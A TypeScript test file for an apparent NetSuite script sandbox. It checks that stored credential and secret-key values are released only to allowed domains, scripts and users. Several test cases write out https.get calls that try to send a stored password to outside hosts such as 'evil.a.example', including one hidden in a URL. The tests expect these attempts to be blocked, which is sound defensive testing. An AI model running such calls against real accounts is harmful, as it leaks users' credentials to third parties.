import type { KeptSecret } from '../../../sandbox/netsuite/types';
import { answer, scriptedAccount } from '../../sandbox/netsuite/realm/scripted-account';

const MODULES = { https: 'N/https', crypto: 'N/crypto' };
const PASSWORD = '0123456789abcdef0123456789abcdef';
const KEY = 'f'.repeat(32);

function accountWith(change: Partial<KeptSecret> = {}) {
  const rest = { domains: ['a.example'], scriptIds: ['customscript_test'], ...change };
  const keptSecrets = new Map<string, KeptSecret>([
    [PASSWORD, { kind: 'credential', value: 'hush', ...rest }],
    [KEY, { kind: 'secretkey', value: '00112233445566778899AABBCCDDEEFF', ...rest, domains: [] }],
  ]);
  return { ...scriptedAccount(), keptSecrets };
}

const sendTo = (host: string, secret = `https.createSecureString({ input: 'Basic {${PASSWORD}}' })`) =>
  `https.get({ url: 'https://${host}/x', headers: { Authorization: ${secret} } });`;
const HMAC = `return crypto.createHmac({ algorithm: 'SHA256', key: crypto.createSecretKey({ guid: '${KEY}', encoding: 'HEX' }) }) !== null;`;

describe('what a person typed into a credential field (section_4337770901)', () => {
  it('leaves in place of its GUID, to the domains of the field', () => {
    const account = accountWith();
    answer(MODULES, sendTo('a.example'), account);
    expect(account.requests[0]?.headers['authorization']).toBe('Basic hush');
  });

  it.each([
    ['another domain', sendTo('b.example'), {}, /sent to b.example/],
    ['a part of the domain', sendTo('evil.a.example'), {}, /sent to evil.a.example/],
    ['another script', sendTo('a.example'), { scriptIds: ['customscript_other'] }, /restricted to other scripts/],
    ['another user', sendTo('a.example'), { userId: 7 }, /restricted to another user/],
    [
      'another domain inside of another secure string',
      sendTo(
        'b.example',
        `https.createSecureString({ input: 'x' }).appendSecureString({ secureString: https.createSecureString({ input: '{${PASSWORD}}' }), keepEncoding: true })`,
      ),
      {},
      /sent to b.example/,
    ],
    [
      'another domain as a part of the URL',
      `https.get({ url: https.createSecureString({ input: 'https://b.example/{${PASSWORD}}' }) });`,
      {},
      /sent to b.example/,
    ],
  ])('does not go to %s (assumed: NOT_EMULATED)', (_whom, body, change, message) => {
    const account = accountWith(change);
    expect(() => answer(MODULES, body, account)).toThrow(message);
    expect(account.requests).toEqual([]);
  });

  it('is no secret key, and a secret key is no credential', () => {
    expect(() => answer(MODULES, `https.createSecureString({ input: '{${KEY}}' });`, accountWith())).toThrow('GUID of a secretkey field');
    expect(() => answer(MODULES, `crypto.createSecretKey({ guid: '${PASSWORD}' });`, accountWith())).toThrow('GUID of a credential field');
  });
});

it('what was typed into a secret key field becomes a key by its GUID, which the key shows (section_4337770901)', () => {
  expect(answer(MODULES, HMAC, accountWith())).toBe(true);
  expect(answer(MODULES, `return crypto.createSecretKey({ guid: '${KEY}' }).guid;`, accountWith())).toBe(KEY);
  expect(() => answer(MODULES, HMAC, accountWith({ scriptIds: [] }))).toThrow('restricted to other scripts');
});
